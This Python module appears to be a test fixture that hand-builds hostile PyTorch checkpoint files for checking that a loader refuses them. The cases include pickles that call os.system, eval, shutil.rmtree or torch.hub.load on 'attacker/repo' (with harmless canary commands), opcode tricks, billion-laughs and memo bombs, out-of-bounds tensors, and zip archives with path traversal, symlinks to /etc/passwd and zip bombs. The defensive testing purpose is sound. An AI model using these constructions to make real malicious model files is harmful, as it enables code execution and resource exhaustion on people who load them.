"""Checkpoints that an attacker might send; each would do harm if it were believed.

Every one is otherwise a well-formed checkpoint, so that only what is wrong with it refuses it.
"""

import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

CANARY = "canary-was-here"
NAME = "model.Default.atomic_model.weight"


@dataclass
class Case:
    """A file.

    Attributes:
        name: What it does.
        content: Its bytes, or a function that writes it to a path (for large ones).
        words: What the refusal must say, such as the name of the offending global.
    """

    name: str
    content: bytes | Callable[[Path], None]
    words: str = ""

    def write(self, path: Path) -> Path:
        """Write it to a path."""
        if callable(self.content):
            self.content(path)
        else:
            path.write_bytes(self.content)
        return path

    @property
    def is_large(self) -> bool:
        """Whether it takes seconds to refuse."""
        return callable(self.content) or len(self.content) > 2_000_000


@dataclass
class Entry:
    """An entry of an archive, and what its headers claim."""

    name: str
    content: bytes
    method: int = 0
    claimed: int | None = None
    crc: int | None = None
    attributes: int = 0
    made_by: int = 0
    flags: int = 0
    offset: int | None = None
    in_place_name: str | None = None


@dataclass
class Zip:
    """A zip archive, written by hand so that it can lie."""

    entries: list[Entry] = field(default_factory=list)
    count: int | None = None
    directory_size: int | None = None
    directory_offset: int | None = None
    comment: bytes = b""
    prefix: bytes = b""

    def bytes(self) -> bytes:
        body, directory = io.BytesIO(), b""
        body.write(self.prefix)
        for entry in self.entries:
            offset = body.tell() if entry.offset is None else entry.offset
            packed = entry.content
            if entry.method == zipfile.ZIP_DEFLATED:
                deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
                packed = deflate.compress(entry.content) + deflate.flush()
            size = len(entry.content) if entry.claimed is None else entry.claimed
            crc = zlib.crc32(entry.content) if entry.crc is None else entry.crc
            stored = len(packed) if entry.claimed is None else size
            name = entry.name.encode()
            here = (entry.in_place_name or entry.name).encode()
            common = (entry.flags, entry.method, 0, 0, crc, stored, size)
            if entry.offset is None:
                body.write(struct.pack("<4s5H3I2H", b"PK\3\4", 20, *common, len(here), 0) + here)
                body.write(packed)
            directory += struct.pack(
                "<4s6H3I5H2I",
                *(b"PK\1\2", entry.made_by << 8 | 20, 20, *common, len(name), 0, 0, 0, 0),
                *(entry.attributes << 16, offset),
            )
            directory += name
        place = body.tell() if self.directory_offset is None else self.directory_offset
        size = len(directory) if self.directory_size is None else self.directory_size
        count = len(self.entries) if self.count is None else self.count
        end = (b"PK\5\6", 0, 0, count & 0xFFFF, count & 0xFFFF, size, place, len(self.comment))
        return body.getvalue() + directory + struct.pack("<4s4H2IH", *end) + self.comment


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def storage(key: str = "0", size: int = 4, kind: str = "DoubleStorage") -> bytes:
    return (
        b"("
        + text("storage")
        + f"ctorch\n{kind}\n".encode()
        + text(key)
        + text("cpu")
        + (_int(size) + b"tQ")
    )


def tensor(shape: list[int], strides: list[int], offset: int = 0, where: bytes = b"") -> bytes:
    numbers = b"(" + b"".join(map(_int, shape)) + b"t(" + b"".join(map(_int, strides)) + b"t"
    call = b"ctorch._utils\n_rebuild_tensor_v2\n(" + (where or storage())
    return call + _int(offset) + numbers + b"\x89ccollections\nOrderedDict\n)RtR"


def _int(value: int) -> bytes:
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


GOOD = tensor([2, 2], [2, 1])
PARAMS = (
    b"}("
    + text("type_map")
    + b"]("
    + text("O")
    + b"e"
    + text("descriptor")
    + b"}"
    + (text("type") + text("dpa2") + b"su")
)


def description(weight: bytes = GOOD, params: bytes = PARAMS, extra: bytes = b"") -> bytes:
    state = text("_extra_state") + b"}(" + text("model_params") + params
    state += text("train_infos") + b"}u" + text(NAME) + weight + extra
    return b"\x80\x02}" + text("model") + b"ccollections\nOrderedDict\n)R(" + state + b"us."


def archive(pickled: bytes = b"", **change: object) -> Zip:
    numbers = struct.pack("<4d", 1, 2, 3, 4)
    entries = [
        Entry("archive/data.pkl", pickled or description()),
        Entry("archive/byteorder", b"little"),
        Entry("archive/data/0", numbers),
        Entry("archive/version", b"3\n"),
    ]
    made = Zip(entries)
    for key, value in change.items():
        setattr(made, key, value)
    return made


def _changed(index: int, **change: object) -> bytes:
    made = archive()
    for key, value in change.items():
        setattr(made.entries[index], key, value)
    return made.bytes()


def _with(*entries: Entry) -> bytes:
    made = archive()
    made.entries += entries
    return made.bytes()


def call(name: str, *arguments: str) -> bytes:
    module, _, attribute = name.rpartition(".")
    return f"c{module}\n{attribute}\n(".encode() + b"".join(map(text, arguments)) + b"tR"


def _calls() -> list[Case]:
    command = f"touch {CANARY}"
    python = f"open({CANARY!r}, 'w')"
    cases = {
        "os.system": (command,),
        "posix.system": (command,),
        "subprocess.check_output": (command,),
        "builtins.eval": (python,),
        "builtins.exec": (python,),
        "builtins.__import__": ("os",),
        "builtins.getattr": ("x", "y"),
        "torch.hub.load": ("attacker/repo", "model"),
        "torch.load": (CANARY,),
        "torch.jit.load": (CANARY,),
        "torch.serialization.load": (CANARY,),
        "torch.storage._load_from_bytes": ("x",),
        "torch.utils.cpp_extension.load_inline": ("x", "y"),
        "numpy.load": (CANARY,),
        "runpy.run_path": (CANARY,),
        "importlib.import_module": ("antigravity",),
        "shutil.rmtree": (CANARY,),
        "webbrowser.open": ("http://127.0.0.1:1/",),
        "operator.attrgetter": ("system",),
        "functools.partial": ("x",),
    }
    return [
        Case(f"calls {name}", archive(description(call(name, *values))).bytes(), name)
        for name, values in cases.items()
    ]


def _instructions() -> list[Case]:
    system = b"cposix\nsystem\n"
    command = text(f"touch {CANARY}")
    dotted = b"\x80\x04" + b"\x8c\x05torch" + b"\x8c\x0fhub.sys.modules" + b"\x93."
    nested = b"ccollections\nOrderedDict\n)R}(" + text("__setstate__") + system + b"ub"
    weights = {
        "INST instruction": (b"(" + command + b"iposix\nsystem\n", "INST"),
        "OBJ instruction": (b"(" + system + command + b"o", "posix.system"),
        "NEWOBJ instruction": (system + b"(" + command + b"t\x81", "posix.system"),
        "NEWOBJ of a harmless class": (b"ccollections\nOrderedDict\n)\x81", "NEWOBJ"),
        "BUILD with a global in the state": (nested, "posix.system"),
        "BUILD of a list": (b"]}b", "attributes"),
        "BUILD of a tensor": (GOOD + b"}(" + text("shape") + b")ub", "attributes"),
        "BUILD of a tensor's slots": (GOOD + b"N}(" + text("shape") + b")u\x86b", "attributes"),
        "BUILD of a function": (
            b"ctorch._utils\n_rebuild_tensor_v2\nN}(" + text("stands_for") + b"Nu\x86b",
            "attributes",
        ),
        "extension code 1": (b"\x82\x01", "EXT1"),
        "extension code 2": (b"\x83\x01\x00", "EXT2"),
        "extension code 4": (b"\x84\x01\x00\x00\x00", "EXT4"),
        "persistent id as text": (b"Px\n", "PERSID"),
        "a call of a value that was read": (text("os.system") + b"(" + command + b"tR", "call"),
        "a call of a type": (b"ctorch\nDoubleStorage\n(" + _int(2**40) + b"tR", "DoubleStorage"),
        "a name inside a torch module": (b"ctorch\nos.system\n(" + command + b"tR", "os.system"),
        "a storage type of another module": (b"ctorch.hub\nFloatStorage\n", "torch.hub"),
    }
    cases = [
        Case(name, archive(description(weight)).bytes(), words)
        for name, (weight, words) in weights.items()
    ]
    return [*cases, Case("STACK_GLOBAL with dots", archive(dotted).bytes(), "hub.sys.modules")]


def _bombs() -> list[Case]:
    laughs = b"](" + text("ha") + b"eq\x00"
    for level in range(1, 40):
        laughs += (
            b"](" + b"h" + bytes([level - 1]) + b"h" + bytes([level - 1]) + b"eq" + (bytes([level]))
        )
    laughs = b"(" + laughs + b"t"
    itself = b"]q\x00h\x00a"
    deep = b"]" * 20_000 + b"a" * 19_999
    tuples = b")" + b"\x85" * 20_000
    memo = b"".join(b"r" + struct.pack("<I", number) for number in range(1_500_000))
    puts = b"N" + memo
    lists = b"(" + b"]" * 2_500_000 + b"l"
    number = b"\x8b" + struct.pack("<i", 2_000_000) + b"\x7f" * 2_000_000
    collide = b"".join(_int(n * (2**61 - 1)) + b"N" for n in range(1, 20_000))
    surrogate = b"X\x03\x00\x00\x00\xed\xa0\x80"
    long = b"X\xff\xff\xff\x7fx"
    params = {
        "billion laughs": laughs,
        "a list in itself": itself,
        "a place in the memo far away": b"Nr\xff\xff\xff\x7f",
        "deep lists": deep,
        "deep tuples": tuples,
        "memo bomb": puts,
        "millions of lists": lists,
        "an endless number": number,
        "keys that collide": b"}(" + collide + b"u",
        "text that is no text": surrogate,
        "a text longer than the file": long,
    }
    return [
        Case(name, archive(description(params=b"}" + text("a") + value + b"s")).bytes())
        for name, value in params.items()
    ]


def _tensors() -> list[Case]:
    weights = {
        "a tensor beyond its storage": tensor([2, 3], [3, 1]),
        "an offset beyond the storage": tensor([2], [1], offset=3),
        "a negative offset": tensor([2], [1], offset=-2),
        "a negative stride": tensor([2, 2], [-2, 1], offset=3),
        "a negative size": tensor([-2, -2], [2, 1]),
        "a stride beyond the storage": tensor([2], [1000]),
        "a giant shape of stride 0": tensor([2**20, 2**20], [0, 0]),
        "a shape that overflows": tensor([2**32, 2**32, 2**32], [0, 0, 0]),
        "a giant number as size": tensor([2**200], [0]),
        "fewer strides than axes": tensor([2, 2], [1]),
        "65 axes": tensor([1] * 65, [1] * 65),
        "a storage larger than its entry": tensor([8], [1], where=storage(size=8)),
        "a giant storage": tensor([2**40], [1], where=storage(size=2**40)),
        "a negative storage": tensor([0], [1], where=storage(size=-1)),
        "a storage that is not there": tensor([4], [1], where=storage(key="7")),
        "a storage outside the archive": tensor([4], [1], where=storage(key="../../0")),
        "a storage of another type": tensor([4], [1], where=storage(kind="FloatStorage")),
        "a shape that is text": b"ctorch._utils\n_rebuild_tensor_v2\n("
        + storage()
        + _int(0)
        + (text("44") + text("11") + b"\x89ccollections\nOrderedDict\n)RtR"),
    }
    return [Case(name, archive(description(value)).bytes()) for name, value in weights.items()]


def _archives() -> list[Case]:
    zeros = bytes(64 * 2**20)
    deflated = zipfile.ZIP_DEFLATED
    harm = Entry("archive/data.pkl", pickle.dumps("harm", 2))
    good = archive().bytes()
    second = archive()
    second.entries[2].offset = 0
    inside = archive()
    inside.entries[3].offset = 40
    return [
        Case("path traversal", _with(Entry("archive/../../evil", b"x")), "leads out"),
        Case("path traversal of numbers", _with(Entry("archive/data/../../../evil", b"x"))),
        Case("absolute path", _with(Entry("/etc/evil", b"x")), "leads out"),
        Case("drive letter", _with(Entry("C:/evil", b"x")), "leads out"),
        Case("backslashes", _with(Entry("archive\\..\\evil", b"x")), "leads out"),
        Case("line break in a name", _with(Entry("archive/a\nb", b"x")), "leads out"),
        Case("escape codes in a name", _with(Entry("archive/\x1b[2Jx", b"x")), "leads out"),
        Case("direction marks in a name", _with(Entry("archive/\u202etp.x", b"x")), "leads out"),
        Case(
            "symbolic link",
            _with(Entry("archive/link", b"/etc/passwd", attributes=0o120777, made_by=3)),
            "link",
        ),
        Case("zip bomb", _with(Entry("archive/data/9", zeros, method=deflated)), "compressed"),
        Case("compressed pickle", _changed(0, method=deflated), "compressed"),
        Case("encrypted entry", _changed(2, flags=1), "encrypted"),
        Case("two pickles of one name", _with(harm), "two entries"),
        Case(
            "two pickles alike but for case", _with(Entry("ARCHIVE/DATA.PKL", b"N.")), "two entries"
        ),
        Case("a program", _with(Entry("archive/constants.pkl", b"N.")), "TorchScript"),
        Case("a program in capitals", _with(Entry("archive/CONSTANTS.PKL", b"N.")), "TorchScript"),
        Case("two folders with a pickle", _with(Entry("other/data.pkl", b"\x80\x02N."))),
        Case("entries that overlap", second.bytes(), "overlap"),
        Case("an entry inside another", inside.bytes(), "overlap"),
        Case("claimed size beyond the file", _changed(3, claimed=2**31), "does not fit"),
        Case("claimed pickle of 1 GB", _changed(0, claimed=2**30)),
        Case("wrong CRC of the pickle", _changed(0, crc=1), "CRC"),
        Case("another name in place", _changed(0, in_place_name="archive/evil.pkl")),
        Case("bytes before the archive", b"PK\3\4" + bytes(60) + good),
        Case("a comment after the archive", archive(comment=b"x" * 30).bytes()),
        Case("a directory elsewhere", archive(directory_offset=4).bytes()),
        Case("a directory of 4 GB", archive(directory_size=2**32 - 2).bytes()),
        Case("65,535 entries claimed", archive(count=65535).bytes()),
        Case("no entry claimed", archive(count=0).bytes()),
        Case("big-endian numbers", _changed(1, content=b"big"), "byte order"),
        Case("no text as name", good.replace(b"archive/version", b"archive/versi\xff\xfe")),
    ]


def _large(path: Path) -> None:
    """A million empty entries: 60 MB of directory, ten times that as Python objects."""
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("archive/data.pkl", description())
    content = path.read_bytes()
    start = content.index(b"PK\1\2")
    count = 1_000_000
    entry = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 16, 0, 0, 0, 0, 0, 0)
    with path.open("wb") as stream:
        stream.write(content[:start])
        stream.writelines(entry + b"archive/data/%03x" % (n % 4096) for n in range(count))
        size = count * len(entry + b"archive/data/000")
        stream.write(
            struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, start)
        )
        stream.write(struct.pack("<4sIQI", b"PK\6\7", 0, start + size, 1))
        stream.write(struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 65535, 65535, size, start, 0))


def cases() -> list[Case]:
    """Return all of them."""
    return [
        *_calls(),
        *_instructions(),
        *_bombs(),
        *_tensors(),
        *_archives(),
        Case("a directory of a million entries", _large, "directory"),
    ]
